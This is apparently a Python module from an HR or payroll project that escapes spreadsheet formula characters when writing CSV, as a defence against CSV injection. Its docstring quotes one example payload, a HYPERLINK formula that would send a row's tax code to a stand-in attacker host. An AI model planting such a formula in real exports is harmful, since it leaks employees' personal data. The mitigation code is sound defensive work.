"""CSV files that people open in a spreadsheet: every one WeCare writes goes through
`write_csv` (libs/common/tests/test_spreadsheet.py checks that no other module writes CSV).

A spreadsheet reads a cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage
return as a formula: a name typed as `=HYPERLINK("https://evil.example/?"&A2;"click")`
would become a live link that sends the row's tax code away when HR clicks it (CSV
injection, OWASP). Such a text cell is written with a leading `'`, which spreadsheets
take as "this is text" and do not show. Numbers are written as numbers: `-1250` in a
`*_cents` column is a negative amount the program computed, not something a person
typed, and a quote would turn it into text a payroll program cannot add up (OWASP's
advice: neutralise text, keep numeric fields numeric).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell(value: Any) -> Any:
    """A value as it is safe to write: text that a spreadsheet would take for a formula
    gets a leading `'`; numbers (and None, written empty) stay as they are."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def write_csv(columns: Sequence[str], rows: Iterable[Mapping[str, Any]], *,
              delimiter: str = ";", header: bool = True) -> str:
    """Rows as CSV text (RFC 4180 quoting; `;` as Italian spreadsheets expect), each
    cell through `cell`. A key a row does not have is written empty."""
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(columns), delimiter=delimiter,
                            lineterminator="\r\n", restval="", extrasaction="raise")
    if header:
        writer.writeheader()
    for row in rows:
        writer.writerow({name: cell(value) for name, value in row.items()})
    return out.getvalue()
